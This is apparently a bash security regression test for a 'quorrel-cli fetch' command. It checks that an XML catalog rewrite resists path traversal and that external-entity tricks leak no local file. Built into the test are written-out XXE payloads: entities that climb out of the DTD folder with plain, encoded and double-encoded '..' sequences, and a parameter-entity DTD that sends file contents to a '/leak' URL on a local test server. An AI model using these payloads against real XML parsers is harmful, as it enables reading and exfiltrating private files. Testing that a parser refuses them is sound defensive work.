#!/usr/bin/env bash
# quorrel-cli fetch with an XML catalog that rewrites a web prefix to a local
# folder: names that climb out of the folder read no local file and send
# nothing back to the server, validating or not; names inside it still work.
set -u
cli=$1
httpd=$2
. "$(dirname -- "${BASH_SOURCE[0]}")/lib.sh"
work=$(mktemp -d)
server=
trap '[ -n "$server" ] && kill "$server" 2>/dev/null; rm -rf "$work"' EXIT

mkdir -p "$work/a/dtds" "$work/site"
printf 'SECRET-4711' >"$work/secret.txt"
echo '<!ELEMENT shop (item*)><!ELEMENT item (#PCDATA)>' >"$work/a/dtds/shop.dtd"
cat >"$work/catalog.xml" <<EOF
<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog">
  <rewriteSystem systemIdStartString="http://dtds.example.org/v1/" rewritePrefix="file://$work/a/dtds/"/>
</catalog>
EOF
export XML_CATALOG_FILES="$work/catalog.xml"

"$httpd" "$work/site" >"$work/httpd.out" &
server=$!
for _ in $(seq 1 500); do
    [ -s "$work/httpd.out" ] && break
    sleep 0.02
done
port=$(head -n 1 "$work/httpd.out")
site="http://127.0.0.1:$port"
# dtds.example.org is asked of the test server as a proxy, never of the network.
export http_proxy="$site" no_proxy=127.0.0.1 NO_PROXY=127.0.0.1

i=0
for name in 'http://dtds.example.org/v1/../../secret.txt' \
    'http://dtds.example.org/v1/%2e%2e/%2e%2e/secret.txt' \
    'http://dtds.example.org/v1/%252e%252e/%252e%252e/secret.txt'; do
    i=$((i + 1))
    printf '<!DOCTYPE r [<!ENTITY s SYSTEM "%s">]>\n<r>&s;</r>\n' "$name" >"$work/site/entity$i.xml"
    printf '<!DOCTYPE r SYSTEM "exfil%s.dtd">\n<r/>\n' "$i" >"$work/site/exfil$i.xml"
    cat >"$work/site/exfil$i.dtd" <<EOF
<!ENTITY % file SYSTEM "$name">
<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '$site/leak?%file;'>">
%wrap;
%send;
EOF
    for validate in --validate --no-validate; do
        option=$([ "$validate" = --no-validate ] && echo --no-validate)
        "$cli" fetch $option "$site/entity$i.xml" >"$work/out" 2>"$work/err"; rc=$?
        check "entity $name $validate: refused, nothing read" "1:0" \
            "$rc:$(cat "$work/out" "$work/err" | grep -c SECRET)"
        "$cli" fetch $option "$site/exfil$i.xml" >"$work/out" 2>"$work/err"
        check "DTD sending $name back $validate: nothing read" 0 \
            "$(cat "$work/out" "$work/err" | grep -c SECRET)"
    done
done

printf '<!DOCTYPE shop SYSTEM "http://dtds.example.org/v1/shop.dtd">\n<shop><item>tea</item></shop>\n' \
    >"$work/site/shop.xml"
out=$("$cli" fetch "$site/shop.xml" 2>"$work/err"); rc=$?
check "a name inside the folder: validated against the local DTD" "0:1:" \
    "$rc:$(grep -c '<item>tea</item>' <<<"$out"):$(cat "$work/err")"

kill "$server"
wait "$server"
server=
check "the server saw no file content" "0" "$(grep -c SECRET "$work/httpd.out")"
check "the server saw the DTDs asked for" "2" "$(grep -c '^/exfil1.dtd$' "$work/httpd.out")"

finish
